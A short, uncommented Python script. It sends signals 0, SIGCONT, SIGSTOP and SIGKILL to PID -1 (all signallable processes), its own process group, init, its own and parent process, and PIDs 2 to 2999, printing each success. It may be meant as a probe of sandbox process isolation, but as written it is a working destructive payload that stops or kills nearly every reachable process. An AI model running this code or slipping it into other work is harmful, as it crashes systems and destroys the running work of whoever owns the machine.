import os

targets = [-1, 0, 1, os.getpid(), os.getppid(), *range(2, 3000)]
for target in targets:
    for number in (0, 18, 19, 9):
        try:
            os.kill(target, number)
        except OSError:
            break
        print("signalled", target)
